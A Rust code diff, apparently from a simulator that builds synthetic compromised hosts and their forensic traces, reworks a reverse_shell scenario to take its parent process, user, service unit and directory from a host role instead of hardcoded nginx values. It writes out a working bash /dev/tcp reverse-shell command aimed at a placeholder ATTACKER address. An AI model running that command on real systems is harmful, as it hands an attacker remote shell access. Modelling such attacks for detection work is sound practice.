@@ -51,24 +51,27 @@ pub(super) fn setuid_shell(host: &mut Host, dice: &Dice) -> Vec<Trace> {
 
 pub(super) fn reverse_shell(host: &mut Host, dice: &Dice) -> Vec<Trace> {
     let mut dice = dice.clone();
-    let parent = host.process("nginx").map_or(1, |process| process.pid);
+    let front = host.role.front();
+    let parent = host.process(front.process).map_or(1, |process| process.pid);
+    let (uid, gid) = front.account;
     let pid = host.next_pid(&mut dice, 3000);
     let line = format!("bash -i >& /dev/tcp/{ATTACKER}/443 0>&1");
     let started = break_in(host, &mut dice);
-    let mut shell =
-        Process::new(pid, parent, "/usr/bin/bash", &["sh", "-c", &line]).user(33, 33).started(started);
-    "/var/www/html/uploads".clone_into(&mut shell.cwd);
-    shell.cgroup = "/system.slice/nginx.service".to_owned();
+    let mut shell = Process::new(pid, parent, "/usr/bin/bash", &["sh", "-c", &line])
+        .user(uid, gid)
+        .unit(front.unit)
+        .started(started);
+    front.place.clone_into(&mut shell.cwd);
     host.processes.push(shell);
-    host.files.put("/var/www/html/uploads", 0o755, host.clock.installed, Content::Directory);
+    host.files.put(front.place, 0o755, host.clock.installed, Content::Directory);
     let here = SocketAddr::new(host.address.into(), dice.port(32_768, 60_999));
     let there = SocketAddr::new(ATTACKER.into(), 443);
-    host.listen(&mut dice, 33, &[pid], SocketKind::Tcp(here, there, TcpState::Established));
+    host.listen(&mut dice, uid, &[pid], SocketKind::Tcp(here, there, TcpState::Established));
     let remote = ATTACKER.to_string();
     vec![
         Trace::added(
             "processes",
-            [("path", "/usr/bin/bash"), ("cmdline", &format!("sh -c {line}")), ("uid", "33")],
+            [("path", "/usr/bin/bash"), ("cmdline", &format!("sh -c {line}")), ("uid", &uid.to_string())],
         ),
         Trace::added("connections", [("process_path", "/usr/bin/bash"), ("remote_address", &remote)]),
     ]
